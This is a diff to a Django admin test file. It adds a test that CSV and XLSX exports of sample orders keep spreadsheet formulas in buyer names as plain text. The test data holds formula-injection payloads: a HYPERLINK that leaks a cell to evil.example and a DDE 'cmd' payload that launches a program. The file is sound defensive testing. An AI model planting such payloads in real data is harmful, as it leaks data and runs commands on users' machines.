@@ -1,6 +1,10 @@
 """Sample orders in the admin: curators see all; a maker sees only orders, lines and amounts of its own."""
 
+import csv
+import io
+
 import pytest
+from openpyxl import load_workbook
 
 from django.contrib.auth.models import Group, Permission
 from django.core import mail
@@ -104,6 +108,26 @@ def test_export_holds_only_the_makers_orders(client, admin_setup):
     assert admin_setup["mixed"].reference in body
     assert admin_setup["only_renyah"].reference not in body
     assert "30.00" in body and "66.00" not in body
+
+
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("http://evil.example/?leak="&C2,"Mia")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1)"]
+)
+def test_export_keeps_a_formula_in_a_buyers_name_as_text(client, admin_setup, two_makers, name):
+    order = make_order((two_makers["burner"], 1), name=name)
+    SampleOrder.objects.filter(pk=order.pk).update(company=name)
+    client.force_login(admin_setup["curator"])
+
+    response = client.get("/admin/sample_orders/", {"export": "csv"})
+
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    row = next(row for row in rows if row["Reference"] == order.reference)
+    assert row["Buyer"] == "'" + name and row["Company"] == "'" + name
+
+    xlsx = client.get("/admin/sample_orders/", {"export": "xlsx"})
+    workbook = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content)))
+    cells = [cell for row in workbook.active.iter_rows() for cell in row if cell.value == name]
+    assert len(cells) == 2 and {cell.data_type for cell in cells} == {"s"}  # text, never a formula
 
 
 def test_curator_sees_everything(client, admin_setup):
